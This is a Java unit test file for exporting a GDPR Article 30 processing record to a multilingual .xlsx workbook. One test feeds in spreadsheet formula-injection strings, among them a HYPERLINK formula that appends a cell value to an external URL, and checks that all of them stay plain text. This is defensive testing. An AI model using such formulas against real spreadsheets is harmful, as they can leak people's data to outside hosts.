package fi.seloste.export.record;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import fi.seloste.domain.Language;
import fi.seloste.domain.LocalizedText;
import fi.seloste.domain.Notice;
import fi.seloste.domain.Register;
import fi.seloste.domain.record.ProcessingRecord;
import fi.seloste.domain.record.RegisterRecord;
import fi.seloste.export.NoticeMeta;
import fi.seloste.testing.LimitNotices;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * The record of processing as .xlsx (docs/decisions/0019), read back with fastexcel's reader as a spreadsheet
 * program reads it: every Art. 30(1) item of a filled record in its column of its register's row, the controller
 * part on the second sheet, in Finnish, Swedish and English; owner text that looks like a formula stays text.
 */
class RecordSpreadsheetTest {

    /** Art. 30(1)(b)–(g), each a column of the register sheet. */
    static final List<String> ART_30_1_B_TO_G = List.of("purposes", "dataSubjects", "dataCategories", "recipients",
            "transfers", "retention", "measures");
    /** Art. 30(1)(a), the controller part on the second sheet. */
    static final List<String> ART_30_1_A = List.of("controller", "representative", "dpo");

    private static final NoticeMeta META = new NoticeMeta(java.time.LocalDate.of(2026, 12, 3), 2);

    @ParameterizedTest
    @EnumSource(Language.class)
    void everyItemOfTheRecordIsInItsColumnOfTheRegistersRow(Language language) throws IOException {
        Notice notice = RecordFixtures.notice();
        ProcessingRecord record = RecordFixtures.record();
        RecordContent content = RecordContent.of(notice, record, language, META);
        List<Sheet> sheets = read(RecordSpreadsheet.xlsx(notice, record, language, META));

        Sheet registers = sheets.get(0);
        assertThat(registers.name()).isEqualTo(new RecordWording(language).word("title"));
        List<String> header = registers.row(0);
        assertThat(header.get(0)).isEqualTo(new RecordWording(language).word("sheet.register"));
        assertThat(registers.rows()).hasSize(1 + content.registers().size());
        for (int r = 0; r < content.registers().size(); r++) {
            RecordRegister register = content.registers().get(r);
            List<String> row = registers.row(r + 1);
            assertThat(row.get(0)).isEqualTo(register.name());
            for (RecordItem item : register.items()) {
                int column = header.indexOf(item.label());
                assertThat(column).as("the column of %s", item.key()).isPositive();
                assertThat(row.get(column)).as(item.key()).isEqualTo(String.join("\n", item.lines()));
                assertThat(item.lines()).allSatisfy(line -> assertThat(row.get(column)).contains(line));
            }
        }
        // From the domain itself, not only from RecordContent: the owner's texts in the record's language (the record
        // begins an item with a capital letter).
        RegisterRecord customers = record.of(notice.registers().get(0).id());
        Register billing = notice.registers().get(1);
        assertThat(cell(registers, 1, content, "erasure")).containsIgnoringCase(customers.erasure().in(language));
        assertThat(cell(registers, 1, content, "measures")).containsIgnoringCase(customers.measures().in(language));
        assertThat(cell(registers, 1, content, "transfers")).containsIgnoringCase(customers.transferDocumentation().in(language));
        assertThat(cell(registers, 2, content, "purposes")).containsIgnoringCase(billing.purposes().get(0).description().in(language));
        assertThat(cell(registers, 2, content, "dataSubjects")).containsIgnoringCase(billing.dataSubjects().get(0).label().in(language));
        assertThat(cell(registers, 2, content, "dataCategories")).containsIgnoringCase(billing.dataCategories().get(1).label().in(language));
        assertThat(cell(registers, 2, content, "retention")).isNotBlank();

        RecordRegister filled = content.registers().get(0);
        for (String key : ART_30_1_B_TO_G) {
            assertThat(filled.item(key)).as("%s of %s", key, filled.name()).isPresent();
        }
        List<Integer> order = ART_30_1_B_TO_G.stream()
                .map(key -> header.indexOf(content.registers().get(0).item(key).orElseThrow().label())).toList();
        assertThat(order).as("the columns in the order of Art. 30(1)").isSorted();
    }

    @ParameterizedTest
    @EnumSource(Language.class)
    void theControllerPartIsTheSecondSheet(Language language) throws IOException {
        Notice notice = RecordFixtures.notice();
        ProcessingRecord record = RecordFixtures.record();
        RecordContent content = RecordContent.of(notice, record, language, META);
        Sheet controller = read(RecordSpreadsheet.xlsx(notice, record, language, META)).get(1);

        assertThat(controller.name()).isEqualTo(content.controllerHeading());
        assertThat(controller.row(0)).containsExactly(content.partColumn(), content.contentColumn());
        for (String key : ART_30_1_A) {
            assertThat(content.controllerItem(key)).as(key).isPresent();
        }
        Map<String, String> values = new LinkedHashMap<>();
        controller.rows().stream().skip(1).forEach(row -> values.put(row.get(0), row.get(1)));
        for (RecordItem item : content.controller()) {
            assertThat(values).containsEntry(item.label(), String.join("\n", item.lines()));
        }
        assertThat(String.join("\n", values.values())).contains(notice.controller().name(),
                notice.controller().businessId());
    }

    @Test
    void theSheetsAreNamedAsTheRecord() throws IOException {
        Notice notice = RecordFixtures.notice();
        ProcessingRecord record = RecordFixtures.record();
        assertThat(read(RecordSpreadsheet.xlsx(notice, record, Language.FI, META))).map(Sheet::name)
                .containsExactly("Seloste käsittelytoimista", "Rekisterinpitäjä");
        assertThat(read(RecordSpreadsheet.xlsx(notice, record, Language.SV, META)).get(0).name())
                .isEqualTo("Register över behandling");
        assertThat(read(RecordSpreadsheet.xlsx(notice, record, Language.EN, META)).get(0).name())
                .isEqualTo("Record of processing activities");
    }

    @Test
    void aNoticeWithTwoRegistersGivesTwoRows() throws IOException {
        Notice two = RecordFixtures.notice();
        assertThat(two.registers()).hasSize(2);
        Sheet registers = read(RecordSpreadsheet.xlsx(two, RecordFixtures.record(), Language.FI, META)).get(0);
        assertThat(registers.rows()).hasSize(3);
        assertThat(registers.rows().subList(1, 3)).extracting(row -> row.get(0))
                .containsExactly(two.registers().get(0).name().fi(), two.registers().get(1).name().fi());

        Notice one = RecordFixtures.oneRegister();
        assertThat(read(RecordSpreadsheet.xlsx(one, RecordFixtures.record(), Language.FI, META)).get(0).rows())
                .hasSize(2);
    }

    @Test
    void ownerTextThatLooksLikeAFormulaStaysText() throws IOException {
        List<String> hostile = List.of("=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Avaa\")", "+358 40 123 4567",
                "-1+1", "@SUM(1,2)", "=1+1");
        Notice notice = RecordFixtures.notice();
        Register first = notice.registers().get(0);
        notice = Notice.withoutSharedSections(notice.controller().withName(hostile.get(0)), notice.contactPerson(),
                notice.dataProtectionOfficer(), notice.settings(),
                List.of(first.toBuilder().name(LocalizedText.finnish(hostile.get(4))).build()));
        ProcessingRecord record = RecordFixtures.record();
        record = record.with(record.of(first.id())
                .withErasure(LocalizedText.finnish(hostile.get(1)))
                .withLocations(LocalizedText.finnish(hostile.get(2)))
                .withAccessRoles(LocalizedText.finnish(hostile.get(3))));
        byte[] xlsx = RecordSpreadsheet.xlsx(notice, record, Language.FI, META);

        List<Cell> cells = new ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (var sheet : workbook.getSheets().toList()) {
                for (Row row : sheet.read()) {
                    row.forEach(cell -> {
                        if (cell != null && cell.getType() != CellType.EMPTY) {
                            cells.add(cell);
                        }
                    });
                }
            }
        }
        assertThat(cells).allSatisfy(cell -> {
            assertThat(cell.getType()).as(cell.getAddress().toString()).isEqualTo(CellType.STRING);
            assertThat(cell.getFormula()).isNull();
        });
        List<String> texts = cells.stream().map(Cell::getText).toList();
        assertThat(texts).contains(hostile.get(4));
        assertThat(String.join("\n", texts)).contains(hostile.get(0), hostile.get(1), hostile.get(2), hostile.get(3));
        for (Map.Entry<String, String> part : parts(xlsx).entrySet()) {
            if (part.getKey().startsWith("xl/worksheets/")) {
                assertThat(part.getValue()).as(part.getKey()).doesNotContain("<f>", "<f ", "t=\"str\"");
            }
        }
    }

    @Test
    void theHeaderRowIsFrozenAndCellsWrap() throws IOException {
        Notice notice = RecordFixtures.notice();
        byte[] xlsx = RecordSpreadsheet.xlsx(notice, RecordFixtures.record(), Language.FI, META);
        Map<String, String> parts = parts(xlsx);

        assertThat(parts.get("xl/worksheets/sheet1.xml")).contains("ySplit=\"1\"", "state=\"frozen\"");
        assertThat(parts.get("xl/worksheets/sheet2.xml")).contains("ySplit=\"1\"", "state=\"frozen\"");
        assertThat(parts.get("xl/styles.xml")).contains("wrapText=\"true\"", "vertical=\"top\"");
        java.util.regex.Matcher widths = java.util.regex.Pattern.compile("<col [^>]*width=\"([0-9.]+)\"")
                .matcher(parts.get("xl/worksheets/sheet1.xml"));
        List<Double> found = new ArrayList<>();
        while (widths.find()) {
            found.add(Double.parseDouble(widths.group(1)));
        }
        assertThat(found).isNotEmpty().allSatisfy(w -> assertThat(w)
                .isBetween((double) RecordSpreadsheet.MIN_WIDTH, (double) RecordSpreadsheet.MAX_WIDTH));
        java.util.regex.Matcher height = java.util.regex.Pattern.compile("<row r=\"2\" ht=\"([0-9.]+)\"")
                .matcher(parts.get("xl/worksheets/sheet1.xml"));
        assertThat(height.find()).as("the first register's row has a height").isTrue();
        assertThat(Double.parseDouble(height.group(1))).as("a row as tall as its wrapped lines").isGreaterThan(100);
        assertThat(RecordSpreadsheet.wrappedLines("a\nb", 20)).isEqualTo(2);
        assertThat(RecordSpreadsheet.wrappedLines("x".repeat(50), 12)).isEqualTo(5);
        assertThat(RecordSpreadsheet.wrappedLines("", 12)).isEqualTo(1);
    }

    @Test
    void aCellOverExcelsLimitEndsWithANote() {
        RecordWording wording = new RecordWording(Language.FI);
        List<String> lines = Collections.nCopies(40, "x".repeat(999));
        String cell = RecordSpreadsheet.cell(lines, wording);

        assertThat(cell.length()).isLessThanOrEqualTo(RecordSpreadsheet.CELL_LIMIT);
        assertThat(cell).startsWith(String.join("\n", lines.subList(0, 32)))
                .endsWith("\n" + wording.word("sheet.continues"));
        assertThat(RecordSpreadsheet.cell(List.of("😀".repeat(20_000)), wording).length())
                .isLessThanOrEqualTo(RecordSpreadsheet.CELL_LIMIT);
        assertThat(RecordSpreadsheet.cell(List.of("a", "b"), wording)).isEqualTo("a\nb");
    }

    @Test
    void textsAtTheirLimitsMakeCellsExcelTakes() throws IOException {
        Notice large = LimitNotices.filled(limit -> LimitNotices.prose(limit.max()), limit -> Math.min(limit.max(), 5), 2);
        List<Sheet> sheets = read(RecordSpreadsheet.xlsx(large, null, Language.FI, null));
        String note = new RecordWording(Language.FI).word("sheet.continues");

        assertThat(sheets.get(0).rows()).hasSize(3);
        List<String> cells = sheets.stream().flatMap(sheet -> sheet.rows().stream()).flatMap(List::stream).toList();
        assertThat(cells).allSatisfy(cell -> assertThat(cell.length()).isLessThanOrEqualTo(RecordSpreadsheet.CELL_LIMIT));
        assertThat(cells).anySatisfy(cell -> assertThat(cell).endsWith(note));
    }

    @Test
    void anEmptyNoticeAndCharactersXmlCannotHoldStillMakeAWorkbook() throws IOException {
        List<Sheet> empty = read(RecordSpreadsheet.xlsx(Notice.EMPTY, null, Language.SV, null));
        assertThat(empty).hasSize(2);
        assertThat(empty.get(0).rows()).hasSize(1);
        assertThat(empty.get(0).row(0).get(0)).isEqualTo("Register");

        Notice control = Notice.EMPTY.withController(Notice.EMPTY.controller().withName("A\u0001B\u0000C\uFFFE D"));
        Sheet controller = read(RecordSpreadsheet.xlsx(control, null, Language.FI, null)).get(1);
        assertThat(controller.row(1).get(1)).startsWith("ABC D");
    }

    @Test
    void writingLeavesTheCallersStreamOpen() throws IOException {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream() {
            @Override
            public void close() {
                throw new AssertionError("the caller's stream was closed");
            }
        };
        RecordSpreadsheet.write(RecordFixtures.oneRegister(), null, Language.EN, null, out);
        assertThat(read(out.toByteArray())).hasSize(2);
    }

    @Test
    void aColumnOnlyALaterRegisterHasKeepsItsPlace() {
        RecordContent content = new RecordContent(Language.FI, "", "", "", "", List.of(), List.of(
                new RecordRegister(1, "A", List.of(item("purposes"), item("retention"))),
                new RecordRegister(2, "B", List.of(item("purposes"), item("recipients"), item("retention"), item("risk")))),
                "", "", "", false);

        assertThat(RecordSpreadsheet.columns(content)).map(RecordSpreadsheet.Column::key)
                .containsExactly("purposes", "recipients", "retention", "risk");
    }

    @Test
    void sheetNamesAreWhatExcelTakes() {
        assertThat(RecordSpreadsheet.sheetName("Rekisterinpitäjä", "2")).isEqualTo("Rekisterinpitäjä");
        assertThat(RecordSpreadsheet.sheetName("a/b:c*d?e[f]g\\h", "2")).isEqualTo("a b c d e f g h");
        assertThat(RecordSpreadsheet.sheetName("x".repeat(40), "2")).hasSize(31);
        assertThat(RecordSpreadsheet.sheetName("  ", "2")).isEqualTo("2");
    }

    /** The cell of the register sheet's row under the column of the item with the key. */
    private static String cell(Sheet registers, int row, RecordContent content, String key) {
        String label = content.registers().stream().flatMap(r -> r.item(key).stream()).findFirst().orElseThrow().label();
        int column = registers.row(0).indexOf(label);
        assertThat(column).as("the column of %s", key).isPositive();
        return registers.row(row).get(column);
    }

    private static RecordItem item(String key) {
        return new RecordItem(key, key, List.of(key));
    }

    /** One sheet as text: its name and its rows, each row's cells from column A, "" for an empty cell. */
    record Sheet(String name, List<List<String>> rows) {
        List<String> row(int index) {
            return rows.get(index);
        }
    }

    static List<Sheet> read(byte[] xlsx) throws IOException {
        List<Sheet> sheets = new ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (var sheet : workbook.getSheets().toList()) {
                List<List<String>> rows = new ArrayList<>();
                int width = 0;
                List<Row> read = sheet.read();
                for (Row row : read) {
                    width = Math.max(width, row.getCellCount());
                }
                for (Row row : read) {
                    List<String> cells = new ArrayList<>();
                    for (int c = 0; c < width; c++) {
                        cells.add(row.getOptionalCell(c).map(Cell::getText).orElse(""));
                    }
                    rows.add(cells);
                }
                sheets.add(new Sheet(sheet.getName(), rows));
            }
        }
        return sheets;
    }

    /**
     * The workbook's parts by name, as text, read through the zip's central directory as spreadsheet programs read
     * it (opczip writes each entry's sizes after its data, which ZipInputStream does not take).
     */
    static Map<String, String> parts(byte[] xlsx) throws IOException {
        Map<String, String> parts = new LinkedHashMap<>();
        Path file = Files.createTempFile("record", ".xlsx");
        try {
            Files.write(file, xlsx);
            try (ZipFile zip = new ZipFile(file.toFile())) {
                for (ZipEntry entry : Collections.list(zip.entries())) {
                    try (var in = zip.getInputStream(entry)) {
                        parts.put(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
                    }
                }
            }
        } finally {
            Files.deleteIfExists(file);
        }
        return parts;
    }
}
